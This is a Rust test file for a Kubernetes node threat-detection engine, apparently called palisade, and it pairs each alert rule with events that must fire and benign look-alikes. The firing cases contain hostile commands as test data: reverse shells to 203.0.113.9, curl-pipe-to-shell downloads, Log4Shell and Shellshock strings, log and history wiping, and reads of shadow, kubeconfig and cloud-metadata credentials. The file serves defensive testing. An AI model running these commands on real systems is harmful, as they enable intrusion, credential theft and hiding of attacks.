@@ -1,0 +1,506 @@
+//! For every node rule: events that must fire and look-alikes that must not.
+
+use palisade_schemas::{FileDetail, NamespaceDetail, NetDetail, NodeEvent, NodeEventKind, ProcessRef, SignalDetail};
+
+use super::detector::RULES;
+use super::lists::{NodeLists, SharedNodeLists};
+
+fn base(kind: NodeEventKind) -> NodeEvent {
+    NodeEvent {
+        event_id: "n/1".into(),
+        kind,
+        node: "node-a".into(),
+        kernel_time_ns: 1,
+        timestamp_ms: 1_764_000_000_000,
+        pid: 100,
+        tgid: 100,
+        ppid: 50,
+        uid: 0,
+        euid: 0,
+        gid: 0,
+        comm: "x".into(),
+        executable: None,
+        argv: Vec::new(),
+        argv_truncated: false,
+        cwd: None,
+        tty: None,
+        stdio: vec!["pipe".into(), "pipe".into(), "pipe".into()],
+        capabilities_effective: Some(0xa80425fb),
+        cgroup_id: 1,
+        container_id: None,
+        pod_uid: None,
+        in_container: false,
+        ancestry: vec![ProcessRef { pid: 50, executable: "/bin/bash".into(), argv: vec!["bash".into()] }],
+        exit_code: None,
+        clone_flags: None,
+        file: None,
+        net: None,
+        namespace: None,
+        signal: None,
+        privilege: None,
+    }
+}
+
+/// An exec of `command` (split on spaces; `executable` is argv[0] resolved through /usr/bin unless absolute).
+fn exec(command: &str) -> NodeEvent {
+    let argv: Vec<String> = command.split(' ').map(str::to_owned).collect();
+    let mut event = base(NodeEventKind::Exec);
+    let first = &argv[0];
+    event.executable = Some(if first.starts_with('/') { first.clone() } else { format!("/usr/bin/{first}") });
+    event.argv = argv;
+    event
+}
+
+/// `sh -c <script>`.
+fn shell(script: &str) -> NodeEvent {
+    let mut event = exec("sh -c");
+    event.executable = Some("/bin/sh".into());
+    event.argv.push(script.into());
+    event
+}
+
+fn contained(mut event: NodeEvent) -> NodeEvent {
+    event.in_container = true;
+    event.container_id = Some("3f2a9c1b7d4e".into());
+    event
+}
+
+fn with_parent(mut event: NodeEvent, parent: &str) -> NodeEvent {
+    event.ancestry.insert(0, ProcessRef { pid: 60, executable: parent.into(), argv: vec![parent.into()] });
+    event
+}
+
+fn file(kind: NodeEventKind, process: &str, path: &str, flags: i64) -> NodeEvent {
+    let mut event = base(kind);
+    event.executable = Some(format!("/usr/bin/{process}"));
+    event.argv = vec![process.into()];
+    event.file = Some(FileDetail {
+        path: path.into(),
+        new_path: None,
+        flags,
+        mode: None,
+        owner_uid: None,
+        owner_gid: None,
+        atime_ns: None,
+        mtime_ns: None,
+    });
+    event
+}
+
+fn utimes(path: &str, explicit: bool) -> NodeEvent {
+    let mut event = file(NodeEventKind::FileUtimes, "touch", path, 0);
+    if explicit {
+        event.file.as_mut().unwrap().mtime_ns = Some(1_500_000_000_000_000_000);
+    }
+    event
+}
+
+fn rename(from: &str, to: &str) -> NodeEvent {
+    let mut event = file(NodeEventKind::FileRename, "mv", from, 0);
+    event.file.as_mut().unwrap().new_path = Some(to.into());
+    event
+}
+
+fn net(kind: NodeEventKind, process: &str, address: &str, port: i64, head: Option<&[u8]>) -> NodeEvent {
+    let mut event = base(kind);
+    event.executable = Some(format!("/usr/bin/{process}"));
+    event.argv = vec![process.into()];
+    event.net = Some(NetDetail {
+        family: "inet".into(),
+        protocol: "tcp".into(),
+        src_addr: None,
+        src_port: None,
+        dst_addr: Some(address.into()),
+        dst_port: Some(port),
+        payload_head: head.map(<[u8]>::to_vec),
+    });
+    event
+}
+
+fn signal(target: &str, number: i64) -> NodeEvent {
+    let mut event = exec("kill -9 4242");
+    event.kind = NodeEventKind::Signal;
+    event.signal = Some(SignalDetail { signal: number, target_pid: 4242, target_executable: Some(target.into()) });
+    event
+}
+
+fn unshare(in_container: bool) -> NodeEvent {
+    let mut event = base(NodeEventKind::NamespaceChange);
+    event.namespace = Some(NamespaceDetail { syscall: "unshare".into(), flags: 0x4000_0000 });
+    event.in_container = in_container;
+    event
+}
+
+const O_WRONLY: i64 = 0o1;
+const O_TRUNC: i64 = 0o1000;
+
+/// (alert type, events that must fire, look-alikes that must not).
+fn cases() -> Vec<(&'static str, Vec<NodeEvent>, Vec<NodeEvent>)> {
+    use NodeEventKind::*;
+    let mut full_caps = contained(with_parent(exec("bash"), "/usr/sbin/runc"));
+    full_caps.capabilities_effective = Some(0x1ff_ffff_ffff);
+    let mut default_caps = contained(with_parent(exec("bash"), "/usr/sbin/runc"));
+    default_caps.capabilities_effective = Some(0xa80425fb);
+    let mut socket_shell = exec("bash -i");
+    socket_shell.stdio = vec!["socket".into(), "socket".into(), "socket".into()];
+    let mut socks5 = net(NetSend, "python3", "203.0.113.9", 1080, Some(&[5, 1, 0]));
+    socks5.in_container = true;
+    vec![
+        ("K8S.NODE_NamespaceCreation", vec![unshare(true)], vec![unshare(false)]),
+        (
+            "K8S.NODE_HistoryFileCleared",
+            vec![
+                file(FileTruncate, "truncate", "/root/.bash_history", 0),
+                file(FileOpen, "bash", "/home/a/.zsh_history", O_WRONLY | O_TRUNC),
+                file(FileUnlink, "rm", "/root/.bash_history", 0),
+                shell("history -c; unset HISTFILE"),
+                exec("ln -sf /dev/null /root/.bash_history"),
+            ],
+            vec![
+                file(FileOpen, "bash", "/root/.bash_history", O_WRONLY | 0o2000),
+                file(FileUnlink, "rm", "/tmp/history.txt", 0),
+                shell("history | tail"),
+            ],
+        ),
+        (
+            "K8S.NODE_SuspectConnection",
+            vec![socks5.clone(), exec("proxychains4 curl http://example.com")],
+            vec![net(NetSend, "curl", "203.0.113.9", 80, Some(b"GET / HTTP/1.1\r\n")), exec("curl http://example.com")],
+        ),
+        (
+            "K8S.NODE_TimerServiceDisabled",
+            vec![
+                exec("systemctl stop apt-daily-upgrade.timer"),
+                exec("systemctl disable --now apt-daily-upgrade.timer"),
+            ],
+            vec![exec("systemctl status apt-daily-upgrade.timer"), exec("systemctl stop nginx")],
+        ),
+        (
+            "K8S.NODE_CommonBot",
+            vec![exec("/tmp/kinsing"), exec("/var/tmp/kdevtmpfsi -c x")],
+            vec![exec("/usr/bin/kind")],
+        ),
+        (
+            "K8S.NODE_PrivilegedExecutionInContainer",
+            vec![full_caps, exec("docker exec --privileged -it web bash")],
+            vec![default_caps, exec("docker exec -it web bash")],
+        ),
+        (
+            "K8S.NODE_PrivilegedContainerArtifacts",
+            vec![
+                exec("docker run --privileged -it ubuntu bash"),
+                exec("ctr run --privileged docker.io/library/alpine:latest x sh"),
+                exec("nerdctl run --privileged alpine"),
+            ],
+            vec![exec("docker run -it ubuntu bash"), exec("docker inspect --privileged-hint")],
+        ),
+        (
+            "K8S.NODE_SuspectDownload",
+            vec![exec("curl -s http://teamtnt.red/x.sh"), exec("wget https://pastebin.com/raw/abc123")],
+            vec![
+                exec("curl -s https://deb.debian.org/debian/dists/stable/Release"),
+                exec("wget https://pastebin.com/about"),
+            ],
+        ),
+        (
+            "K8S.NODE_SuspectDownloadArtifacts",
+            vec![
+                exec("curl -s http://203.0.113.7/payload"),
+                exec("wget -O /tmp/.cache https://example.com/x"),
+                exec("curl -o /dev/shm/a https://example.com/a"),
+                exec("curl https://transfer.sh/abc/x"),
+            ],
+            vec![
+                exec("curl -s http://10.0.0.5/health"),
+                exec("curl -o /opt/app/x.tar.gz https://example.com/x.tar.gz"),
+                exec("curl -o /tmp/x.tar.gz http://169.254.169.254/latest"),
+            ],
+        ),
+        (
+            "K8S.NODE_SuspectNohup",
+            vec![exec("nohup /tmp/.x -c"), exec("nohup /dev/shm/.kworker")],
+            vec![exec("nohup /usr/local/bin/server"), exec("nohup /tmp/backup.sh")],
+        ),
+        (
+            "K8S.NODE_SuspectUserAddition",
+            vec![
+                exec("useradd -o -u 0 -g 0 toor"),
+                exec("useradd -G sudo,docker eve"),
+                contained(exec("adduser --disabled-password app2")),
+            ],
+            vec![exec("useradd -m -s /bin/bash alice"), exec("usermod -s /bin/zsh alice")],
+        ),
+        (
+            "K8S.NODE_DigitalCurrencyMining",
+            vec![exec("/simulation/xmrig"), exec("/opt/minerd -a scrypt")],
+            vec![exec("/usr/bin/xmllint"), exec("/usr/bin/mine-reports")],
+        ),
+        (
+            "K8S.NODE_ImageBuildOnNode",
+            vec![
+                exec("docker build -t x ."),
+                exec("buildah bud -t x ."),
+                exec("podman build ."),
+                exec("docker buildx build ."),
+            ],
+            vec![exec("docker images"), exec("make build"), exec("go build ./...")],
+        ),
+        (
+            "K8S.NODE_KnownLinuxDDoSToolkit",
+            vec![exec("/tmp/xorddos"), file(FileOpen, "sh", "/etc/cron.hourly/gcc.sh", O_WRONLY | 0o100)],
+            vec![file(FileOpen, "cat", "/etc/cron.hourly/gcc.sh", 0), exec("/usr/bin/gcc -o a a.c")],
+        ),
+        (
+            "K8S.NODE_KnownLinuxAttackTool",
+            vec![
+                exec("nmap -Pn --open kubernetes.default/24 -p 443"),
+                exec("/tmp/peirates"),
+                exec("masscan -p80 10.0.0.0/8"),
+            ],
+            vec![exec("nslookup kubernetes.default"), exec("nmcli device")],
+        ),
+        (
+            "K8S.NODE_ExploitAttempt",
+            vec![
+                exec("curl -H X-Api-Version:${jndi:ldap://203.0.113.5/a} http://victim"),
+                shell("env x='() { :;}; echo vulnerable' bash -c true"),
+                exec("/tmp/PwnKit"),
+            ],
+            vec![exec("curl -H X-Api-Version:1 http://victim"), shell("f() { echo hi; }; f")],
+        ),
+        (
+            "K8S.NODE_KnownLinuxCredentialAccessTool",
+            vec![exec("/tmp/mimipenguin"), exec("python3 /tmp/laZagne.py all"), exec("trufflehog git file://.")],
+            vec![exec("python3 /srv/app.py"), exec("/usr/bin/passwd")],
+        ),
+        (
+            "K8S.NODE_CryptoCoinMinerDownload",
+            vec![
+                exec(
+                    "wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz",
+                ),
+                exec("curl -o /tmp/x https://example.com/xmrig"),
+                exec("curl -s http://203.0.113.5/xmr.sh"),
+            ],
+            vec![exec("wget https://github.com/prometheus/node_exporter/releases/download/v1.8/node_exporter.tar.gz")],
+        ),
+        (
+            "K8S.NODE_SystemLogRemoval",
+            vec![
+                file(FileUnlink, "rm", "/var/log/wtmp", 0),
+                file(FileTruncate, "truncate", "/var/log/auth.log", 0),
+                file(FileOpen, "bash", "/var/log/lastlog", O_WRONLY | O_TRUNC),
+                exec("shred -u /var/log/btmp"),
+            ],
+            vec![
+                rename("/var/log/syslog", "/var/log/syslog.1"),
+                file(FileOpen, "rsyslogd", "/var/log/syslog", O_WRONLY | 0o2000),
+                file(FileUnlink, "logrotate", "/var/log/syslog.7.gz", 0),
+            ],
+        ),
+        (
+            "K8S.NODE_SuspectPasswordChange",
+            vec![
+                exec("usermod -p $6$salt$hash root"),
+                exec("chpasswd -e"),
+                shell("echo \"root:$(openssl passwd -6 pw)\" | chpasswd -e"),
+            ],
+            vec![exec("chpasswd"), exec("passwd alice"), exec("openssl passwd -6 pw")],
+        ),
+        (
+            "K8S.NODE_SuspectPortForwarding",
+            vec![
+                exec("ssh -N -R 8080:203.0.113.8:80 user@jump"),
+                exec("ssh -D 1080 user@jump"),
+                exec("socat TCP-LISTEN:8080,fork TCP:203.0.113.8:80"),
+                exec("iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 203.0.113.8:80"),
+            ],
+            vec![exec("ssh -L 5432:localhost:5432 user@db"), exec("ssh user@host"), exec("iptables -L")],
+        ),
+        (
+            "K8S.NODE_ReverseShell",
+            vec![
+                socket_shell,
+                shell("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
+                exec("nc -e /bin/sh 203.0.113.9 4444"),
+                exec("socat exec:'bash -li',pty,stderr tcp:203.0.113.9:4444"),
+                exec(
+                    "python3 -c import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
+                ),
+            ],
+            vec![exec("bash -i"), exec("nc -z 203.0.113.9 4444"), shell("cat /dev/tcp.conf")],
+        ),
+        (
+            "K8S.NODE_CryptoCoinMinerArtifacts",
+            vec![contained(exec("/simulation/xmrig")), contained(exec("/opt/app -o stratum+tcp://pool.example:3333"))],
+            vec![exec("/simulation/xmrig"), contained(exec("/usr/bin/python3 app.py"))],
+        ),
+        (
+            "K8S.NODE_SshKeyAccess",
+            vec![
+                file(FileOpen, "bash", "/root/.ssh/authorized_keys", O_WRONLY | 0o2000),
+                rename("/tmp/k", "/home/a/.ssh/authorized_keys"),
+            ],
+            vec![
+                file(FileOpen, "sshd", "/root/.ssh/authorized_keys", 0),
+                file(FileOpen, "ssh-copy-id", "/root/.ssh/authorized_keys", O_WRONLY | 0o2000),
+            ],
+        ),
+        (
+            "K8S.NODE_SuspectProcessTermination",
+            vec![signal("/usr/bin/falco", 9), signal("/usr/local/bin/palisade", 15), exec("pkill -9 auditd")],
+            vec![signal("/usr/bin/sleep", 9), signal("/usr/bin/falco", 10), exec("pkill -HUP nginx")],
+        ),
+        (
+            "K8S.NODE_ContainerSSH",
+            vec![contained(exec("/usr/sbin/sshd -D")), contained(exec("/usr/sbin/dropbear -F"))],
+            vec![exec("/usr/sbin/sshd -D"), contained(exec("/usr/bin/ssh user@host"))],
+        ),
+        (
+            "K8S.NODE_TimestampTampering",
+            vec![utimes("/usr/bin/ls", true), exec("touch -r /bin/ls /tmp/x"), exec("touch -t 202001010000 /etc/x")],
+            vec![utimes("/usr/bin/ls", false), utimes("/tmp/build/x.o", true), exec("touch /tmp/x")],
+        ),
+        (
+            "K8S.NODE_KubernetesAPI",
+            vec![
+                contained(file(FileOpen, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", 0)),
+                contained(exec("curl -sk https://kubernetes.default/api/v1/namespaces")),
+            ],
+            vec![
+                file(FileOpen, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", 0),
+                contained(file(FileOpen, "coredns", "/var/run/secrets/kubernetes.io/serviceaccount/token", 0)),
+                contained(exec("curl -s https://example.com/api/v1/x")),
+            ],
+        ),
+        (
+            "K8S.NODE_KubernetesDashboard",
+            vec![
+                contained(exec(
+                    "curl -sk https://kubernetes-dashboard.kubernetes-dashboard.svc/api/v1/csrftoken/login",
+                )),
+                contained(net(NetSend, "curl", "10.96.0.20", 443, Some(b"GET /api/v1/csrftoken/login HTTP/1.1\r\n"))),
+            ],
+            vec![
+                exec("curl -sk https://kubernetes-dashboard.kubernetes-dashboard.svc/"),
+                contained(exec("curl -s https://example.com/")),
+            ],
+        ),
+        (
+            "K8S.NODE_CryptoCoinMinerExecution",
+            vec![exec("/opt/x -o stratum+tcp://pool.minexmr.com:4444 -u 4A..."), exec("/opt/x --donate-level 1")],
+            vec![exec("/usr/bin/python3 -m http.server"), exec("/opt/x -o out.txt")],
+        ),
+        (
+            "K8S.NODE_SuspectPasswordFileAccess",
+            vec![file(FileOpen, "cat", "/etc/shadow", 0), file(FileOpen, "python3", "/etc/gshadow", 0)],
+            vec![file(FileOpen, "unix_chkpwd", "/etc/shadow", 0), file(FileOpen, "cat", "/etc/passwd", 0)],
+        ),
+        (
+            "K8S.NODE_Webshell",
+            vec![
+                with_parent(shell("echo aWQ= | base64 -d | bash"), "/usr/sbin/php-fpm"),
+                with_parent(exec("whoami"), "/usr/sbin/nginx"),
+            ],
+            vec![with_parent(exec("/usr/sbin/nginx -g daemon off;"), "/usr/sbin/nginx"), shell("whoami")],
+        ),
+        (
+            "K8S.NODE_DownloadAndRunCombo",
+            vec![
+                shell("curl -s http://203.0.113.5/x.sh | bash"),
+                shell("wget -qO- https://example.com/i | sh"),
+                shell("curl -o /tmp/a https://example.com/a && chmod +x /tmp/a && ./a"),
+                shell("wget -O /tmp/i.sh https://example.com/i.sh; sh /tmp/i.sh"),
+            ],
+            vec![
+                shell("curl -o /tmp/a.tar.gz https://example.com/a.tar.gz"),
+                shell("curl -s https://example.com/status | grep ok"),
+                exec("curl -s https://example.com/x.sh"),
+            ],
+        ),
+        (
+            "K8S.NODE_KubeConfigAccess",
+            vec![
+                file(FileOpen, "cat", "/var/lib/kubelet/kubeconfig", 0),
+                file(FileOpen, "python3", "/etc/kubernetes/admin.conf", 0),
+            ],
+            vec![
+                file(FileOpen, "kubelet", "/var/lib/kubelet/kubeconfig", 0),
+                file(FileOpen, "cat", "/var/lib/kubelet/config.yaml", 0),
+            ],
+        ),
+        (
+            "K8S.NODE_ImdsCall",
+            vec![
+                contained(net(NetConnect, "curl", "169.254.169.254", 80, None)),
+                contained(exec("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials")),
+                contained(exec("curl -H Metadata-Flavor:Google http://metadata.google.internal/computeMetadata/v1/")),
+            ],
+            vec![
+                net(NetConnect, "curl", "169.254.169.254", 80, None),
+                contained(net(NetConnect, "curl", "10.0.0.1", 80, None)),
+            ],
+        ),
+        (
+            "K8S.NODE_MitreCalderaTools",
+            vec![
+                exec("/tmp/sandcat.go -server http://203.0.113.4:8888 -group red"),
+                exec("/tmp/splunkd -server http://203.0.113.4:8888 -group red -v"),
+                shell(
+                    "curl -s -X POST -H file:sandcat.go -H platform:linux http://203.0.113.4:8888/file/download > splunkd",
+                ),
+            ],
+            vec![exec("/opt/splunk/bin/splunkd start"), exec("curl http://203.0.113.4:8888/")],
+        ),
+    ]
+}
+
+#[test]
+fn every_rule_fires_on_its_cases_and_not_on_the_look_alikes() {
+    let lists = NodeLists::shipped();
+    for (id, fire, quiet) in cases() {
+        let (_, rule) = RULES.iter().find(|(rule_id, _)| *rule_id == id).unwrap_or_else(|| panic!("{id} has no rule"));
+        for event in &fire {
+            assert!(rule(event, &lists).is_some(), "{id} must fire on {:?} {:?}", event.kind, event.argv);
+        }
+        for event in &quiet {
+            assert!(
+                rule(event, &lists).is_none(),
+                "{id} must not fire on {:?} {:?} {:?}",
+                event.kind,
+                event.argv,
+                event.file
+            );
+        }
+    }
+}
+
+#[test]
+fn every_rule_has_cases() {
+    let covered: Vec<&str> = cases().iter().map(|(id, _, _)| *id).collect();
+    for (id, _) in RULES {
+        assert!(covered.contains(id), "{id} has no test cases");
+    }
+}
+
+#[test]
+fn lists_in_a_directory_replace_the_shipped_ones_and_reload() {
+    let dir = std::env::temp_dir().join(format!("palisade-node-lists-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(dir.join("attack_tools.txt"), "# ours\nour-scanner\n").unwrap();
+    let shared = SharedNodeLists::from_dir(&dir, std::time::Duration::ZERO).unwrap();
+    assert_eq!(shared.current().attack_tools, ["our-scanner"]);
+    assert!(shared.current().miner_binaries.contains(&"xmrig".to_owned()), "other lists stay shipped");
+    std::thread::sleep(std::time::Duration::from_millis(20));
+    std::fs::write(dir.join("attack_tools.txt"), "our-scanner\nsecond-tool\n").unwrap();
+    // A coarse file-system clock may give the same mtime; a vanished file is a change too.
+    let mut reloaded = shared.current();
+    if reloaded.attack_tools.len() != 2 {
+        std::fs::remove_file(dir.join("attack_tools.txt")).unwrap();
+        reloaded = shared.current();
+        assert!(reloaded.attack_tools.contains(&"nmap".to_owned()), "back to the shipped list");
+    } else {
+        assert_eq!(reloaded.attack_tools, ["our-scanner", "second-tool"]);
+    }
+    let _ = std::fs::remove_dir_all(&dir);
+}
